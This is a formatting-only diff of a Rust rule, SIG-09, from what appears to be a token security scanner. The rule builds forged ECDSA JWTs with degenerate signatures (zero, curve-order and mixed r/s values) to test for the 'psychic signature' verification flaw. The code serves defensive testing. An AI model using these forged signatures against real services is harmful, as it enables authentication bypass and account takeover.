@@ -1,8 +1,8 @@
 //! SIG-09: Zero ECDSA signature accepted ('psychic').
 
-use crate::rules::prelude::*;
 use crate::arithmetic::curve::Curve;
 use crate::live::{Plan, Scene};
+use crate::rules::prelude::*;
 
 pub(super) static RULE: Rule = Rule {
     id: "SIG-09",
@@ -19,7 +19,8 @@ pub(super) static RULE: Rule = Rule {
 
 fn attack(scene: &Scene) -> Plan {
     let forge = scene.forge();
-    let algs: Vec<&str> = if scene.valid.alg().starts_with("ES") { vec![scene.valid.alg()] } else { vec!["ES256", "ES384", "ES512"] };
+    let algs: Vec<&str> =
+        if scene.valid.alg().starts_with("ES") { vec![scene.valid.alg()] } else { vec!["ES256", "ES384", "ES512"] };
     let mut attempts = Vec::new();
     for alg in algs {
         let Some(curve) = Curve::of_algorithm(alg) else { continue };
@@ -30,8 +31,16 @@ fn attack(scene: &Scene) -> Plan {
         attempts.push(forge.with_signature(&format!("{alg}, r = s = 0"), &header, &vec![0; size * 2]));
         attempts.push(forge.with_signature(&format!("{alg}, r = s = 0 in DER"), &header, &[0x30, 6, 2, 1, 0, 2, 1, 0]));
         attempts.push(forge.with_signature(&format!("{alg}, r = s = n"), &header, &[padded(&n), padded(&n)].concat()));
-        attempts.push(forge.with_signature(&format!("{alg}, r = n, s = 0"), &header, &[padded(&n), vec![0; size]].concat()));
-        attempts.push(forge.with_signature(&format!("{alg}, r = 0, s = 1"), &header, &[vec![0; size], padded(&[1])].concat()));
+        attempts.push(forge.with_signature(
+            &format!("{alg}, r = n, s = 0"),
+            &header,
+            &[padded(&n), vec![0; size]].concat(),
+        ));
+        attempts.push(forge.with_signature(
+            &format!("{alg}, r = 0, s = 1"),
+            &header,
+            &[vec![0; size], padded(&[1])].concat(),
+        ));
     }
     Plan::of(attempts)
 }
